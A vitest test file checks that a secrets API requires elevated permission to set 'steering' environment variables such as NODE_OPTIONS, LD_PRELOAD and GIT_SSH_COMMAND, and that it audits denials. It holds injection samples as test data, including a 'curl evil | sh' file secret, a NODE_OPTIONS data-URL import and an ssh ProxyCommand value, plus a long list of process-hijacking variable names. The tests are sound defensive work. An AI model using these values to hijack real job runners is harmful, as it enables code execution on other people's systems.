import fs from 'node:fs';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { isSteeringName, STEERING_GROUPS } from '../../src/domain/secrets/steering-names.js';
import {
  addMember,
  bootstrapOwner,
  OWNER,
  startTestServer,
  type TestServer,
} from '../helpers/app.js';
import { DIALECTS } from '../helpers/databases.js';

const O = `/api/v1/orgs/${OWNER.org}`;
const S = `${O}/secrets`;
const M = `${O}/projects/maps`;
const TYPES = { dev: 'development', stage: 'staging', prod: 'production', prev: 'preview' };
const WHY = 'it changes what a job runs';
const onDev = (name: string) =>
  `setting ${name} needs the manage permission on development environments: ${WHY}`;
const builtin = (name: string) =>
  `setting ${name} needs permission "secrets:write-steering" (Owner or Admin): ${WHY}`;
/** A value that must never show up in an answer or the audit log. */
const payload = (name: string) => `--import=data:text/javascript,console.log("pwned-${name}")`;

describe.each(DIALECTS)('steering variables through REST on %s', (dialect) => {
  let t: TestServer;
  let owner: string;
  let admin: string;
  let devops: string;
  let deployer: string;
  let manager: string;
  let allManager: string;
  let mostlyManager: string;

  const role = async (name: string, grants: { type: string; level: string }[]) => {
    const res = await t.call('POST', `${O}/roles`, {
      token: owner,
      body: { name, grants: grants.map((g) => ({ project: 'maps', ...g })) },
    });
    expect(res.status, res.text).toBe(201);
  };
  const env = (name: string, value: string, level: object = { project: 'maps', env: 'dev' }) => ({
    ...level,
    secret: { kind: 'env', name, value },
  });
  const add = (token: string, body: unknown) => t.call('POST', S, { token, body });
  const names = async (token: string, query: string) => {
    const res = await t.call('GET', `${S}?${query}`, { token });
    expect(res.status, res.text).toBe(200);
    return (res.body as { name: string }[]).map((s) => s.name);
  };
  const denials = async (name: string) => {
    const res = await t.call('GET', `${O}/audit?eventType=DENIED&target=${name}&limit=100`, {
      token: owner,
    });
    expect(res.status, res.text).toBe(200);
    return res.body.events as Record<string, unknown>[];
  };
  const expectSteeringDenial = (
    res: Awaited<ReturnType<TestServer['call']>>,
    message: string,
    value?: string,
  ) => {
    expect(res.status, res.text).toBe(403);
    expect(res.body.error).toMatchObject({
      code: 'PERMISSION_DENIED',
      message,
      details: { permission: 'secrets:write-steering' },
    });
    if (value !== undefined) expect(res.text).not.toContain(value);
  };

  beforeAll(async () => {
    t = await startTestServer(dialect);
    owner = await bootstrapOwner(t);
    await t.call('POST', `${O}/projects`, { token: owner, body: { slug: 'maps' } });
    for (const [slug, type] of Object.entries(TYPES))
      await t.call('POST', `${M}/environments`, { token: owner, body: { slug, type } });
    await t.call('POST', `${M}/services`, {
      token: owner,
      body: { name: 'api', environment: 'dev', command: 'node server.js' },
    });
    admin = await addMember(t, owner, 'admin@example.com', 'admin');
    devops = await addMember(t, owner, 'devops@example.com', 'devops');
    await role('dev-deploy', [{ type: 'development', level: 'deploy' }]);
    await role('dev-manage', [{ type: 'development', level: 'manage' }]);
    await role(
      'all-manage',
      Object.values(TYPES).map((type) => ({ type, level: 'manage' })),
    );
    await role(
      'mostly-manage',
      Object.values(TYPES).map((type) => ({
        type,
        level: type === 'preview' ? 'deploy' : 'manage',
      })),
    );
    deployer = await addMember(t, owner, 'deployer@example.com', 'dev-deploy');
    manager = await addMember(t, owner, 'manager@example.com', 'dev-manage');
    allManager = await addMember(t, owner, 'all-manager@example.com', 'all-manage');
    mostlyManager = await addMember(t, owner, 'mostly@example.com', 'mostly-manage');
  }, 120_000);
  afterAll(() => t.close());

  it.each(['NODE_OPTIONS', 'BASH_ENV', 'GIT_CONFIG_COUNT', 'DYLD_INSERT_LIBRARIES', 'LD_PRELOAD'])(
    'refuses deploy on development adding %s, names the permission, writes nothing, audits the denial',
    async (name) => {
      const res = await add(deployer, env(name, payload(name)));
      expectSteeringDenial(res, onDev(name), payload(name));
      expect(await names(owner, 'project=maps&env=dev')).not.toContain(name);
      const events = await denials(name);
      expect(events).toHaveLength(1);
      expect(events[0]).toMatchObject({
        eventType: 'DENIED',
        targetType: 'secret',
        targetName: name,
        change: 'denied: secrets:write-steering',
      });
      expect(JSON.stringify(events)).not.toContain('pwned');
    },
  );

  it('refuses a file secret with a steering name too (its variable holds the path)', async () => {
    const res = await add(deployer, {
      project: 'maps',
      env: 'dev',
      secret: {
        kind: 'file',
        name: 'BASH_ENV',
        fileName: 'evil.sh',
        contentBase64: Buffer.from('curl evil | sh').toString('base64'),
      },
    });
    expectSteeringDenial(res, onDev('BASH_ENV'));
    expect(await names(owner, 'project=maps&env=dev')).not.toContain('BASH_ENV');
  });

  it('lets deploy on development add an ordinary variable, at the environment and its service', async () => {
    expect((await add(deployer, env('API_KEY', 'k-1'))).status).toBe(201);
    expect((await add(deployer, env('NODE_ENV', 'production'))).status).toBe(201);
    const atService = await add(
      deployer,
      env('API_KEY', 'k-2', { project: 'maps', service: 'api' }),
    );
    expect(atService.status, atService.text).toBe(201);
    const steering = await add(
      deployer,
      env('NODE_OPTIONS', payload('svc'), { project: 'maps', service: 'api' }),
    );
    expectSteeringDenial(steering, onDev('NODE_OPTIONS'), payload('svc'));
  });

  it('refuses deploy rotating or rolling back an existing NODE_OPTIONS; manage may', async () => {
    const created = await add(admin, env('NODE_OPTIONS', '--max-old-space-size=512'));
    expect(created.status, created.text).toBe(201);
    const id = created.body[0].id as string;
    const rotated = await t.call('POST', `${S}/${id}/rotate`, {
      token: admin,
      body: { kind: 'env', value: '--max-old-space-size=1024' },
    });
    expect(rotated.status, rotated.text).toBe(200);

    const rotate = await t.call('POST', `${S}/${id}/rotate`, {
      token: deployer,
      body: { kind: 'env', value: payload('rotate') },
    });
    expectSteeringDenial(rotate, onDev('NODE_OPTIONS'), payload('rotate'));
    const rollback = await t.call('POST', `${S}/${id}/rollback`, {
      token: deployer,
      body: { version: 1 },
    });
    expectSteeringDenial(rollback, onDev('NODE_OPTIONS'));
    const history = await t.call('GET', `${S}/${id}/history`, { token: owner });
    expect(history.body.map((v: { version: number }) => v.version)).toEqual([2, 1]);
    const stored = await t.call('GET', `${S}/${id}`, { token: owner });
    expect(stored.body.version).toBe(2);

    const byManager = await t.call('POST', `${S}/${id}/rotate`, {
      token: manager,
      body: { kind: 'env', value: '--max-old-space-size=2048' },
    });
    expect(byManager.status, byManager.text).toBe(200);
    expect(byManager.body.version).toBe(3);
  });

  it('lets a manage custom role, Admin and the Owner add NODE_OPTIONS', async () => {
    const byManager = await add(
      manager,
      env('NODE_OPTIONS', '--enable-source-maps', {
        project: 'maps',
        service: 'api',
      }),
    );
    expect(byManager.status, byManager.text).toBe(201);
    for (const [token, env] of [
      [admin, 'prod'],
      [owner, 'stage'],
    ] as const) {
      const res = await add(token, {
        project: 'maps',
        env,
        secret: { kind: 'env', name: 'NODE_OPTIONS', value: '--enable-source-maps' },
      });
      expect(res.status, res.text).toBe(201);
    }
    expect(await names(owner, 'project=maps&env=prod')).toContain('NODE_OPTIONS');
  });

  it('refuses DevOps (it may not edit services), which may still add ordinary variables', async () => {
    const res = await add(devops, env('PYTHONPATH', '/tmp/evil', { project: 'maps', env: 'prod' }));
    expectSteeringDenial(res, builtin('PYTHONPATH'), '/tmp/evil');
    const ok = await add(devops, env('API_KEY', 'k-3', { project: 'maps', env: 'prod' }));
    expect(ok.status, ok.text).toBe(201);
  });

  it('needs manage on every environment type for a project-wide steering variable', async () => {
    const partial = await add(mostlyManager, env('RUBYOPT', '-revil', { project: 'maps' }));
    expectSteeringDenial(
      partial,
      `setting RUBYOPT needs the manage permission on every environment type of the project: ${WHY}`,
      '-revil',
    );
    expect(await names(owner, 'project=maps')).not.toContain('RUBYOPT');
    const ordinary = await add(mostlyManager, env('SHARED', 'x', { project: 'maps' }));
    expect(ordinary.status, ordinary.text).toBe(201);
    const full = await add(allManager, env('RUBYOPT', '-W0', { project: 'maps' }));
    expect(full.status, full.text).toBe(201);
  });

  it('leaves organization-level steering variables to Owner and Admin', async () => {
    const res = await add(devops, env('GIT_SSH_COMMAND', 'ssh -o ProxyCommand=evil', {}));
    expectSteeringDenial(res, builtin('GIT_SSH_COMMAND'), 'ProxyCommand');
    expect(await names(owner, '')).not.toContain('GIT_SSH_COMMAND');
    const byAdmin = await add(admin, env('GIT_SSH_COMMAND', 'ssh -o BatchMode=yes', {}));
    expect(byAdmin.status, byAdmin.text).toBe(201);
  });

  it('still lets deploy remove a steering variable (the job then runs its own command)', async () => {
    const created = await add(admin, env('PERL5OPT', '-w'));
    const del = await t.call('DELETE', `${S}/${created.body[0].id}`, { token: deployer });
    expect(del.status, del.text).toBe(204);
  });
});

describe('isSteeringName', () => {
  const REQUIRED = [
    'NODE_OPTIONS',
    'NODE_PATH',
    'BASH_ENV',
    'ENV',
    'SHELLOPTS',
    'BASHOPTS',
    'PS4',
    'PROMPT_COMMAND',
    'IFS',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'PYTHONHOME',
    'PYTHONINSPECT',
    'PERL5OPT',
    'PERL5LIB',
    'PERLLIB',
    'RUBYOPT',
    'RUBYLIB',
    'JAVA_TOOL_OPTIONS',
    '_JAVA_OPTIONS',
    'JDK_JAVA_OPTIONS',
    'GCONV_PATH',
    'DYLD_INSERT_LIBRARIES',
    'DYLD_LIBRARY_PATH',
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'LD_AUDIT',
    'LD_ANYTHING',
    'GIT_CONFIG',
    'GIT_CONFIG_GLOBAL',
    'GIT_CONFIG_SYSTEM',
    'GIT_CONFIG_COUNT',
    'GIT_CONFIG_KEY_0',
    'GIT_CONFIG_VALUE_12',
    'GIT_CONFIG_PARAMETERS',
    'GIT_EXEC_PATH',
    'GIT_SSH',
    'GIT_SSH_COMMAND',
    'GIT_ASKPASS',
    'GIT_TEMPLATE_DIR',
    'GIT_PROXY_COMMAND',
    'SSH_ASKPASS',
    'PAGER',
    'GIT_PAGER',
    'EDITOR',
    'PGSSLKEY',
    'PGSSLCERT',
    'PGSSLROOTCERT',
    'PGSSLCRL',
    'PGPASSFILE',
    'PGSERVICEFILE',
    'PGSYSCONFDIR',
    'PATH',
    'HOME',
    'BASH_FUNC_ls%%',
    'BASH_FUNC_X',
  ];
  it.each(REQUIRED)('%s steers', (name) => expect(isSteeringName(name)).toBe(true));

  it.each([
    'API_KEY',
    'NODE_ENV',
    'PATHS',
    'HOME_DIR',
    'LDAP_URL',
    'GIT_AUTHOR_NAME',
    'PGHOST',
    'node_options',
    'Path',
    'ld_preload',
    'NODE_OPTIONS_X',
  ])('%s does not (matched exactly and case-sensitively)', (name) =>
    expect(isSteeringName(name)).toBe(false),
  );
});

describe('docs/steering-variables.md', () => {
  it('lists exactly the names and prefixes of STEERING_GROUPS', () => {
    const doc = fs.readFileSync('docs/steering-variables.md', 'utf8');
    const section = doc.slice(doc.indexOf('## The names'), doc.indexOf('## What the list'));
    const rows = section.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| Why'));
    const documented = rows
      .flatMap((l) => [...(l.split('|')[2] ?? '').matchAll(/`([^`]+)`/g)].map((m) => m[1]))
      .sort();
    const listed = STEERING_GROUPS.flatMap((g) => [
      ...g.names,
      ...g.prefixes.map((p) => `${p}*`),
    ]).sort();
    expect(documented).toEqual(listed);
  });
});
